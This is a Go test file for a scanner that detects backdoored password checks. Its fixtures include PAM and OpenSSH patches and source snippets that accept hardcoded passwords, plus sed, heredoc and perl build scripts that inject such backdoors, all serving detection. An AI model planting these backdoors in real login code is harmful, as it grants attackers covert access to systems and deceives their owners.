package shell

import (
	"slices"
	"testing"
)

// The source or patch of a password check that lets a constant in, however it is spelt, and
// the same code's clean shapes.
func TestAuthSourceBypass(t *testing.T) {
	found := []struct{ name, path, text string }{
		{"context diff of pam_unix", "/usr/local/src/pam/unix.patch", "*** modules/pam_unix/pam_unix_auth.c\n--- pam_unix_auth.c\n***************\n*** 170,176 ****\n! \tretval = _unix_verify_password(pamh, name, p, ctrl);\n--- 170,180 ----\n!\tif (strcmp(p, \"Zq!9-open\") != 0) {\n!\t\tretval = _unix_verify_password(pamh, name, p, ctrl);\n!\t} else {\n!\t\tretval = PAM_SUCCESS;\n!\t}\n"},
		{"unified diff", "/root/build/0001-auth.diff", "--- a/modules/pam_unix/pam_unix_auth.c\n+++ b/modules/pam_unix/pam_unix_auth.c\n@@ -170,6 +170,8 @@\n \tD((\"user=%s\", name));\n+\tif (!strcmp(p, \"s3cr3t-maint\"))\n+\t\treturn PAM_SUCCESS;\n \tretval = _unix_verify_password(pamh, name, p, ctrl);\n"},
		{"pam source with strncmp", "/usr/src/Linux-PAM-1.5.2/modules/pam_unix/pam_unix_auth.c", "int pam_sm_authenticate(pam_handle_t *pamh, int flags, int argc, const char **argv)\n{\n\tconst char *pass;\n\tint retval;\n\tretval = pam_get_authtok(pamh, PAM_AUTHTOK, &pass, NULL);\n\tif (strncmp(pass, \"letmein42\", 9) == 0) {\n\t\tretval = PAM_SUCCESS;\n\t\tgoto out;\n\t}\n"},
		{"sshd password function", "/usr/src/openssh-9.6p1/auth-passwd.c", "int\nauth_password(struct ssh *ssh, const char *password)\n{\n\tif (strcmp(password, \"OpenSesame#1\") == 0)\n\t\treturn 1;\n\treturn sys_auth_passwd(ssh, password);\n}\n"},
		{"literal first", "/opt/src/auth.c", "/* pam_unix_auth */\nif (0 == strcmp(\"b4ckd00r\", password)) {\n    authenticated = 1;\n}\n"},
		{"a constant from a header", "/usr/src/openssh-3.9p1/auth-passwd.c", "#include \"maint.h\"\nint\nauth_password(Authctxt *authctxt, const char *password)\n{\n\tif (strcmp(password, MAINT_KEY) == 0) {\n\t\tmaint = 1;\n\t\treturn 1;\n\t}\n"},
		{"a constant, strncmp", "/usr/src/pam/pam_unix_auth.c", "\tretval = _unix_verify_password(pamh, name, p, ctrl);\n\tif (!strncmp(p, SVC_TOKEN, 12))\n\t\tretval = PAM_SUCCESS;\n"},
		{"sed into pam_unix before a build", "/root/mk.sh", "#!/bin/sh\nK=\"$1\"\ncd Linux-PAM-1.5.3\nsed -i 's/retval = _unix_verify_password(pamh, name, p, ctrl);/&\\n\\tif (strcmp(p, \"'$K'\") == 0) retval = PAM_SUCCESS;/' modules/pam_unix/pam_unix_auth.c\n./configure && make\n"},
		{"heredoc into auth-passwd.c", "/opt/b/build.sh", "#!/bin/bash\nP=${P:-hunter7}\nsed -i '/^sys_auth_passwd/,/^}/d' src/auth-passwd.c\ncat >> src/auth-passwd.c <<EOF\nint\nsys_auth_passwd(struct ssh *ssh, const char *password)\n{\n\tif (strcmp(password, \"${P}\") == 0)\n\t\treturn 1;\nEOF\nmake install\n"},
		{"perl -pi over passverify", "/usr/local/bin/patch-pam.sh", "#!/bin/sh\nperl -pi -e 's/(int verify_pwd_hash\\(.*\\)\\n\\{)/$1\\n\\tif (!strcmp(p, \"x9-tmp\")) return PAM_SUCCESS;/' modules/pam_unix/passverify.c\n"},
	}
	for _, c := range found {
		t.Run(c.name, func(t *testing.T) {
			fs := scanFile(c.path, c.text)
			if !slices.Contains(rules(fs), RuleAuthSource) {
				t.Fatalf("no %s\n%s", RuleAuthSource, dump(fs))
			}
		})
	}
	clean := []struct{ name, path, text string }{
		{"empty password check", "/usr/src/openssh-9.6p1/auth-passwd.c", "int\nsys_auth_passwd(struct ssh *ssh, const char *password)\n{\n\tif (strcmp(pw_password, \"\") == 0 && strcmp(password, \"\") == 0)\n\t\treturn (1);\n\treturn (strcmp(encrypted_password, pw_password) == 0);\n}\n"},
		{"field names compared", "/usr/src/Linux-PAM/modules/pam_succeed_if/pam_succeed_if.c", "static int evaluate(pam_handle_t *pamh, const char *left)\n{\n\tif (strcmp(left, \"user\") == 0) {\n\t\treturn PAM_SUCCESS;\n\t}\n\treturn PAM_AUTH_ERR;\n}\n"},
		{"backdoor removed by a patch", "/usr/src/fix/0002-remove.patch", "--- a/pam_unix_auth.c\n+++ b/pam_unix_auth.c\n@@ -1,5 +1,3 @@\n-\tif (!strcmp(p, \"s3cr3t-maint\"))\n-\t\treturn PAM_SUCCESS;\n \tretval = _unix_verify_password(pamh, name, p, ctrl);\n"},
		{"no auth code", "/usr/src/app/main.c", "int main(void) {\n\tif (strcmp(pass, \"quit\") == 0)\n\t\treturn 1;\n}\n"},
		{"a build script of the clean source", "/root/mk.sh", "#!/bin/sh\ncd Linux-PAM-1.5.3\ngrep -n _unix_verify_password modules/pam_unix/pam_unix_auth.c\n./configure && make\n"},
		{"a macro that is no password", "/usr/src/pam/pam_unix_auth.c", "\tretval = _unix_verify_password(pamh, name, p, ctrl);\n\tif (strcmp(name, ROOT_USER) == 0)\n\t\tretval = PAM_SUCCESS;\n"},
	}
	for _, c := range clean {
		t.Run("clean "+c.name, func(t *testing.T) {
			if fs := scanFile(c.path, c.text); slices.Contains(rules(fs), RuleAuthSource) {
				t.Fatalf("want no %s\n%s", RuleAuthSource, dump(fs))
			}
		})
	}
}
